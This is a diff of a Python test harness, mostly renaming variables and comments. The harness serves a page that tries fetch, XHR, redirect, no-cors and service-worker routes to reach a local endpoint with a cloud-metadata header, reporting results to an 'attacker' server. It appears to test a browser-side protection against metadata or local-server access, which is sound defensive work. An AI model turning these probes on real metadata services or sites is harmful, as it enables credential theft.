@@ -13,21 +13,21 @@ from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
-# Each way a page has to send a request to its own origin. What it finds out, and how, it sends to the stage.
+# The page tries every way to send a request to its own origin, and reports the results to the attacker's server.
 PAGE = """<!doctype html><title>page</title><body><script type="module">
-const [port, stage, path] = %s;
+const [port, attacker, path] = %s;
 const origin = location.origin;
 const found = {};
 const wait = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
 const within = (promise) => Promise.race([promise, wait(4000).then(() => "timeout")]);
-const tell = (name, data) => fetch(`${stage}/${name}`, {method: "POST", mode: "no-cors", body: JSON.stringify(data)});
+const tell = (name, data) => fetch(`${attacker}/${name}`, {method: "POST", mode: "no-cors", body: JSON.stringify(data)});
 const flavor = {"Metadata-Flavor": "Google"};
 let worker = null;
 try {
   worker = await within(navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready));
 } catch (error) { found.worker = String(error); }
 await tell("ready", {origin});
-while ((await (await fetch(`${stage}/go`)).text()) !== "go") await wait(50);
+while ((await (await fetch(`${attacker}/go`)).text()) !== "go") await wait(50);
 
 const attempts = {
   fetch: async () => (await fetch(path, {headers: flavor})).text(),
@@ -36,7 +36,7 @@ const attempts = {
   agent: async () => (await fetch(path, {headers: {...flavor, "User-Agent": "curl/8", "Accept-Language": "*"}})).text(),
   other_name: async () => (await fetch(`http://127.0.0.1:${port}${path}`, {headers: flavor})).text(),
   no_cors: async () => (await fetch(`http://127.0.0.1:${port}${path}`, {mode: "no-cors"})).type,
-  redirect: async () => (await fetch(`${stage}/redirect`, {headers: flavor})).text(),
+  redirect: async () => (await fetch(`${attacker}/redirect`, {headers: flavor})).text(),
   keepalive: async () => (await fetch(path, {headers: flavor, keepalive: true})).text(),
   xhr: () => new Promise((done) => {
     const request = new XMLHttpRequest();
@@ -109,30 +109,30 @@ self.addEventListener("message", async (event) => {
 """
 
 
-class Stage:
-    """A server of the attacker's own, which tells the page when to go on and learns what it has found."""
+class AttackerServer:
+    """The attacker's own server. It tells the page when to start, and receives the results."""
 
     def __init__(self, port: int, path: str) -> None:
         self.ready, self.go, self.done = threading.Event(), threading.Event(), threading.Event()
         self.found: dict[str, str] = {}
-        stage = self
+        attacker = self
 
         class Handler(http.server.BaseHTTPRequestHandler):
             def do_GET(self) -> None:
                 self.send_response(302 if self.path == "/redirect" else 200)
                 if self.path == "/redirect":
                     self.send_header("Location", f"http://127.0.0.1:{port}{path}")
-                self._end(b"go" if stage.go.is_set() else b"wait")
+                self._end(b"go" if attacker.go.is_set() else b"wait")
 
             def do_POST(self) -> None:
-                said = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                data = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                 self.send_response(204)
                 self._end(b"")
                 if self.path == "/ready":
-                    stage.ready.set()
+                    attacker.ready.set()
                 elif self.path == "/found":
-                    stage.found = said
-                    stage.done.set()
+                    attacker.found = data
+                    attacker.done.set()
 
             def do_OPTIONS(self) -> None:
                 self.send_response(200)
@@ -158,13 +158,13 @@ class Stage:
 
 
 @contextlib.contextmanager
-def page(address: str, port: int, stage: Stage, path: str) -> Iterator[None]:
-    """A server with the page, at [::1] or at 127.0.0.1, as long as it is open."""
+def page(address: str, port: int, attacker: AttackerServer, path: str) -> Iterator[None]:
+    """Serve the page at [::1] or 127.0.0.1."""
 
     class Handler(http.server.BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             worker = self.path == "/worker.js"
-            body = (WORKER if worker else PAGE % json.dumps([port, stage.url, path])).encode()
+            body = (WORKER if worker else PAGE % json.dumps([port, attacker.url, path])).encode()
             self.send_response(200)
             self.send_header("Content-Type", "text/javascript" if worker else "text/html")
             self.send_header("Set-Cookie", "session=1")
@@ -194,7 +194,7 @@ def chromium() -> str | None:
 
 @contextlib.contextmanager
 def browsing(url: str, place: Path) -> Iterator[None]:
-    """Chromium, with the page at a URL."""
+    """Open a URL in Chromium."""
     program = chromium()
     assert program is not None
     flags = (
